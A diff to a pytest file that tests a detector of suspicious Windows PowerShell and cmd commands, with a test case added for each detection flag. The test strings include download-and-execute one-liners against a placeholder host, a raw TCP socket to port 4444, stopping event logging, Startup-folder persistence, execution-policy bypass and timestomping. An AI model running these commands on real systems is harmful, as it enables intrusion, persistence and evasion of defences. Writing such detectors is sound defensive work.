@@ -136,7 +136,7 @@ def test_the_command_behind_the_disguise_is_found(text: str, program: str) -> No
             "defense_tampering",
         ),
         ("[Diagnostics.Process]::Start('calc')", "proxy_execution"),
-        ("$x = New-Object -ComObject WScript.Shell; $x.Run('calc')", "com_object"),
+        ("$x = New-Object -ComObject WScript.Shell; $x.Run('calc')", "proxy_execution"),
         ("New-Object System.Net.Sockets.TCPClient('1.2.3.4',4444)", "raw_socket"),
         ("Add-Type -MemberDefinition '[DllImport(\"kernel32\")] VirtualAlloc' -Name x", "native_code"),
         ("Set-ExecutionPolicy Bypass -Force", "policy_bypass"),
@@ -272,7 +272,36 @@ def test_cmd_separators_and_redirections() -> None:
     assert found[4].redirects == ((">", "f.txt"),)
 
 
-def test_most_of_the_atomic_tests_show_a_flag(shared: Path) -> None:
+@pytest.mark.parametrize(
+    ("text", "flag"),
+    [
+        (r'& "$dir\$name.exe"', "dynamic_program"),
+        ("& (Get-Content C:\\x\\a.txt)", "dynamic_program"),
+        ("& (Get-Command *voke-Exp*) x", "dynamic_program"),
+        ("& (Get-Command -CommandType Application -Name $x)", "dynamic_program"),
+        ("Invoke-Expression $code", "dynamic_code"),
+        ("irm https://x.example/a | iex", "dynamic_code"),
+        ('$c = irm https://x.example/a; iex "cd x; $c"', "dynamic_code"),
+        ('iex "echo $(irm https://x.example/a)"', "dynamic_code"),
+        ("iwr https://x.example/a.exe -OutFile a.exe; Start-Process .\\a.exe", "runs_download"),
+        ("$o = 'b.zip'; curl https://x.example/b -o $o; & $o", "runs_download"),
+        ("(Get-Item a.txt).LastWriteTime = '2001-01-01'", "timestomp"),
+        ("[IO.File]::SetLastWriteTime('a.txt', '2001-01-01')", "timestomp"),
+        (
+            r"$s.CreateShortcut(\"$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk\")",
+            "persistence",
+        ),
+        ("'whoa' + 'mi' | iex", "obfuscated"),
+        ("$x = 1; w'ho'ami", "obfuscated"),
+        ("net stop 'Windows Event Log'", "defense_tampering"),
+        ("Set-ExecutionPolicy Bypass -Scope LocalMachine -Force", "policy_bypass"),
+    ],
+)
+def test_what_only_resembles_everyday_work_is_told_apart(text: str, flag: str) -> None:
+    assert flag in flags(text)
+
+
+def test_most_of_the_atomic_tests_show_a_flag(shared: Path, neutral: frozenset[str]) -> None:
     rows = [
         json.loads(line)
         for line in (shared / "corpus" / "atomic_red_team.jsonl").read_text("utf-8").splitlines()
@@ -283,7 +312,7 @@ def test_most_of_the_atomic_tests_show_a_flag(shared: Path) -> None:
         for row in rows
     ]
     assert sum(windows.looks_like(text) for text in texts) / len(texts) > 0.98
-    assert sum(bool(flags(text) - windows.NEUTRAL) for text in texts) / len(texts) > 0.85
+    assert sum(bool(flags(text) - neutral) for text in texts) / len(texts) > 0.8
 
 
 def test_posix_commands_do_not_look_like_windows(shared: Path) -> None:
